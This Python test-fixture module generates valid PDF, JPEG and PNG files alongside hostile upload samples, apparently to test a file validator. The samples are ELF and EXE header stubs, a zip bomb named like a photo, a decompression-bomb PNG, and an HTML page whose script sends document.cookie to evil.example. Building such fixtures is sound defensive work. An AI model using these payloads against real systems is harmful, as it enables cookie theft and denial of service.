"""Real files of each good and bad kind, made on the fly."""

from io import BytesIO
from PIL import Image

import functools
import zipfile


@functools.cache
def _pdf():
    buffer = BytesIO()
    Image.new("RGB", (60, 40), "white").save(buffer, "PDF")
    return buffer.getvalue()


def pdf(size=None):
    """A real one-page PDF (Pillow), padded to ``size`` bytes if asked."""
    data = _pdf()
    if size and size > len(data):
        # a comment before the header's end keeps it a valid PDF
        data = data.replace(b"%%EOF", b"%" + b"0" * (size - len(data) - 2) + b"\n%%EOF", 1)
    return data


def jpeg(width=64, height=48):
    buffer = BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def png(width=32, height=32):
    buffer = BytesIO()
    Image.new("RGB", (width, height), (30, 200, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def noisy_jpeg(size):
    """A JPEG of about ``size`` bytes (random pixels barely compress)."""
    import random

    rng = random.Random(size)
    side = 64
    while True:
        image = Image.frombytes(
            "RGB", (side, side), bytes(rng.getrandbits(8) for _ in range(side * side * 3))
        )
        buffer = BytesIO()
        image.save(buffer, "JPEG", quality=95)
        if buffer.tell() >= size:
            return buffer.getvalue()
        side = int(side * 1.25)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x00" * 200
)
HTML = (
    b"<!DOCTYPE html>\n<html><head><title>KTP</title></head>"
    b"<body><script>document.location='http://evil.example/'+document.cookie</script></body></html>\n"
)


def zip_bomb(megabytes=50):
    """A small zip of one large file of zeros (named like a photo)."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("foto.bmp", "w") as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(chunk)
    return buffer.getvalue()


def truncated_jpeg():
    data = jpeg(400, 300)
    return data[: len(data) // 2]


def pixel_bomb_png():
    """A tiny PNG that would decode to 100 megapixels."""
    buffer = BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()
